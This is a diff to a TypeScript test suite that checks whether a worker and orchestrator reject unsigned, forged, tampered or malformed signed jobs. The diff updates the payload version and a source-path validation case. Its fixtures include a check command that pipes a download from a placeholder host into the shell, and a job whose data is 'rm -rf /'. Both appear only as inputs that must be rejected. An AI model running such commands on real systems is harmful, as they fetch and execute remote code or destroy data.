@@ -63,14 +63,14 @@ describe('a worker on signed jobs', () => {
     const wrongKey = signJob(otherKey, { stage: 'setup', request: request(run, 'e0002'), session: 'session-1' });
     const tampered = structuredClone(goodJob(run, 'e0003', 'checks'));
     tampered.request.spec.checks = [{ name: 'test', run: 'curl https://example.invalid/x | sh', timeout: 1000 }];
-    const relative = { ...request(run, 'e0004'), worktree: 'wt/e0004' };
-    const payload = { v: 2, stage: 'setup', request: relative, session: 'session-1' };
+    const relative = { ...request(run, 'e0004'), source: { kind: 'local', gitDir: 'repo/.git' } };
+    const payload = { v: 3, stage: 'setup', request: relative, session: 'session-1' };
     const malformed = { ...payload, sig: sign(testJobKey(), 'job', payload) };
     const bad: [string, unknown, RegExp][] = [
       [`${run}.e0001.setup`, unsigned, /unsigned job/],
       [`${run}.e0002.setup`, wrongKey, /bad signature/],
       [`${run}.e0003.checks`, tampered, /bad signature/],
-      [`${run}.e0004.setup`, malformed, /malformed job: request\.worktree: expected an absolute path/],
+      [`${run}.e0004.setup`, malformed, /malformed job: request\.source\.gitDir: expected an absolute path/],
       [`${run}.e0005.setup`, 'rm -rf /', /malformed job: its data is not an object/],
     ];
     for (const [jobId, data] of bad) await work.add('setup', data, { jobId, attempts: 5 });
@@ -133,7 +133,7 @@ describe('an orchestrator on signed results', () => {
     const run = newRunId();
     forger(run, (jobId) => {
       const result = stageResult('setup');
-      return { v: 2, result, sig: sign(otherKey, 'result', { jobId, job: 'f'.repeat(64), result }) };
+      return { v: 3, result, sig: sign(otherKey, 'result', { jobId, job: 'f'.repeat(64), result }) };
     });
 
     const evaluation = await openQueue().evaluate(request(run), never);
